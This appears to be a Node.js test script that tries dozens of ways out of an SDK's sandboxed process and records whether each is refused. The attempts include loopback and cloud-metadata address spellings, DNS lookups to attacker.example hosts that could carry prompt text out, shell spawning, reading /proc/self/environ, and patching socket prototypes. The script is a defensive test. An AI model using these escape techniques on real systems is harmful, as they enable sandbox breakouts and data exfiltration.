/**
 * Every way out of the SDK's process that we know, tried from within, as code that no server can send: the worst case.
 * Says of each how it ended. `argv`: the port of a witness that must hear nothing, the port of the one server that may
 * be reached, and a file that must not appear.
 */
import childProcess from "node:child_process";
import dgram from "node:dgram";
import dns from "node:dns";
import fs from "node:fs";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import { createRequire, register } from "node:module";
import net from "node:net";
import tls from "node:tls";
import v8 from "node:v8";

const [witness, own] = process.argv.slice(2, 4).map(Number);
const file = process.argv[4];
const WAIT_MS = 5000;

/** @param {any} emitter @param {string} [event] @returns {Promise<string>} */
const happens = (emitter, event = "connect") =>
  new Promise((done, fail) => emitter.on(event, () => done(event)).on("error", fail));

/** @param {string} url @param {RequestInit} [init] */
const read = async (url, init) => (await fetch(url, init)).text();

/** As net gives it to whoever looks closely. @returns {Promise<any>} */
const handle = async () => {
  const socket = net.connect({ host: "127.0.0.1", port: own });
  await happens(socket);
  return /** @type {any} */ (socket)._handle;
};

const SPELLINGS = [
  "127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "017700000001", "0.0.0.0", "localhost", "localhost.",
  "LOCALHOST", "127.0.0.1.", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]",
  "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "10.0.0.1", "169.254.169.254", "192.168.0.1", "[fe80::1]", "[fd00::1]",
];
const RAW = [
  "127.1", "2130706433", "0x7f000001", "::1", "::ffff:127.0.0.1", "0:0:0:0:0:ffff:7f00:1", "::1%lo", "127.0.0.1%lo",
];

/** @type {Record<string, () => unknown>} */
const attacks = {
  ...Object.fromEntries(SPELLINGS.map((host) => [`fetch ${host}`, () => read(`http://${host}:${witness}/`)])),
  ...Object.fromEntries(RAW.map((host) => [`connect ${host}`, () => happens(net.connect(witness, host))])),
  "a redirect 302": () => read(`http://127.0.0.1:${own}/302`),
  "a redirect 307": () => read(`http://127.0.0.1:${own}/307`, { method: "POST", body: "x" }),
  "a redirect to a name": () => read(`http://127.0.0.1:${own}/name`),
  "a name of Cursor's that means this machine": () => read("https://localhost:443/"),
  "a name below Cursor's that is none": () => read("https://cursor.sh.attacker.example/"),
  "a name that ends like Cursor's": () => read("https://notlocalhost/"),
  "Cursor's name, another port": () => read(`http://localhost:${witness}/`),
  "the right port, another address": () => read(`http://127.0.0.2:${own}/`),
  "options that change when they are read again": () => {
    let reads = 0;
    const get = (/** @type {any} */ first, /** @type {any} */ then) => (reads++ < 4 ? first : then);
    const options = { get host() { return get("127.0.0.1", "127.0.0.2"); }, get port() { return get(own, witness); } };
    const socket = net.connect(options);
    return happens(socket).then(() => (socket.remotePort === own ? "reached" : "reached another"));
  },
  "a resolver of one's own": () =>
    happens(net.connect({ host: "x.localhost", port: 443, lookup: (_host, _how, done) => done(null, "127.0.0.1", 4) })),
  tls: () => happens(tls.connect(witness, "127.0.0.1"), "secureConnect"),
  http: () => happens(http.get(`http://127.0.0.1:${witness}/`), "response"),
  https: () => happens(https.get(`https://127.0.0.1:${witness}/`), "response"),
  http2: () => happens(http2.connect(`http://127.0.0.1:${witness}/`)),
  "an agent with a proxy": () => {
    const proxyEnv = { HTTP_PROXY: `http://127.0.0.1:${witness}`, http_proxy: `http://127.0.0.1:${witness}` };
    const agent = new http.Agent(/** @type {any} */ ({ proxyEnv }));
    return happens(http.get(`http://127.0.0.1:${own}/`, { agent }), "response");
  },
  websocket: () =>
    new Promise((done, fail) => {
      const socket = new WebSocket(`ws://127.0.0.1:${witness}`);
      socket.onopen = () => done("open");
      socket.onerror = () => fail(new Error("refused"));
    }),
  "a socket in the file system": () => happens(net.connect(`${file}.socket`)),
  "an abstract socket": () => happens(net.connect("\0caretway")),
  "http over a socket in the file system": () => happens(http.get({ socketPath: `${file}.socket` }), "response"),
  "to listen": () => happens(net.createServer().listen(0), "listening"),
  "to listen with http2": () => happens(http2.createServer().listen(0), "listening"),
  "a handle of one's own": async () => {
    const found = new (await handle()).constructor(0);
    return `returned ${found.connect({}, "127.0.0.1", witness)}`;
  },
  "a handle that listens": async () => {
    const found = new (await handle()).constructor(1);
    return `returned ${found.bind("127.0.0.1", 0)} ${found.listen(1)}`;
  },
  "to look a name up": () => dns.promises.lookup("words-of-a-prompt.attacker.example"),
  "to look a name up, with a callback": () =>
    new Promise((done, fail) => dns.lookup("words.attacker.example", (wrong) => (wrong ? fail(wrong) : done("found")))),
  "to resolve a name": () => dns.promises.resolveTxt("words.attacker.example"),
  "a resolver": () => new dns.promises.Resolver().resolve4("localhost"),
  "a resolver of the witness": () => new dns.Resolver().setServers([`127.0.0.1:${witness}`]),
  "a channel": () => `returned ${/** @type {any} */ (new dns.Resolver())._handle.queryA({}, "words.attacker.example")}`,
  "a datagram": () =>
    new Promise((done, fail) => {
      const socket = dgram.createSocket("udp4");
      socket.send("words", witness, "127.0.0.1", (failure) => (failure ? fail(failure) : done("sent")));
    }),
  "a handle for datagrams": () => {
    const socket = dgram.createSocket("udp4");
    const found = Object.getOwnPropertySymbols(socket).map((symbol) => /** @type {any} */ (socket)[symbol]?.handle);
    const udp = found.find((each) => each?.send);
    const sent = udp.send({}, [Buffer.from("words")], 1, witness, "127.0.0.1", false);
    return `returned ${udp.bind("127.0.0.1", 0, 0)} ${sent}`;
  },
  "a loader, which has a thread of its own": async () => {
    register(`data:text/javascript,import net from "node:net"; net.connect(${witness}, "127.0.0.1")`);
    await new Promise((done) => setTimeout(done, 1000));
    return "loaded";
  },
  "process.binding": () => /** @type {any} */ (process).binding("tcp_wrap"),
  "a linked binding": () => /** @type {any} */ (process)._linkedBinding("tcp_wrap"),
  "a thread": async () => new (await import("node:worker_threads")).Worker("1", { eval: true }),
  "a thread, required": () => createRequire(import.meta.url)("worker_threads"),
  "a thread, built in": () => process.getBuiltinModule("worker_threads"),
  "the inspector": async () => (await import("node:inspector")).open(0),
  "a database": async () => new (await import("node:sqlite")).DatabaseSync(file),
  wasi: () => import("node:wasi"),
  spawn: () => happens(childProcess.spawn("/bin/sh", ["-c", `touch ${file}`]), "exit"),
  exec: () => childProcess.execSync(`touch ${file}`),
  fork: () => childProcess.fork(file),
  execve: () => /** @type {any} */ (process).execve("/usr/bin/touch", ["touch", file], {}),
  "to signal the gateway": () => process.kill(process.ppid, "SIGURG"),
  "an addon": () => process.dlopen({ exports: {} }, file),
  "to write": () => fs.promises.writeFile(file, "x"),
  "to write here": () => fs.promises.writeFile("x", "x"),
  "to write to a descriptor": () => fs.promises.open(file, "a"),
  "to make a directory": () => fs.promises.mkdtemp(file),
  "to link": () => fs.promises.symlink("/etc", file),
  "to read": () => fs.promises.readFile("/etc/hostname"),
  "to read here": () => fs.promises.readdir("."),
  "to read the environment": () => fs.promises.readFile("/proc/self/environ"),
  "a report": () => process.report.writeReport(file),
  "a snapshot": () => v8.writeHeapSnapshot(file),
  "to open the door again": () => {
    net.Socket.prototype.connect = /** @type {any} */ (() => "opened");
  },
  "to redefine the door": () => Object.defineProperty(net.Socket.prototype, "connect", { value: () => "opened" }),
  "the one server": () => read(`http://127.0.0.1:${own}/`),
};

for (const [name, attack] of Object.entries(attacks)) {
  /** @type {NodeJS.Timeout | undefined} */
  let timer;
  const late = new Promise((done) => (timer = setTimeout(done, WAIT_MS, "nothing happened")));
  let ended;
  try {
    ended = { done: String(await Promise.race([attack(), late])) };
  } catch (failure) {
    const { code, cause, message } = /** @type {any} */ (failure);
    ended = { refused: String(cause?.code ?? code ?? message) };
  }
  clearTimeout(timer);
  process.stdout.write(`${JSON.stringify({ name, ...ended })}\n`);
}
process.stdout.write(`${JSON.stringify({ name: "environment", names: Object.keys(process.env).sort() })}\n`);
process.exit(0);
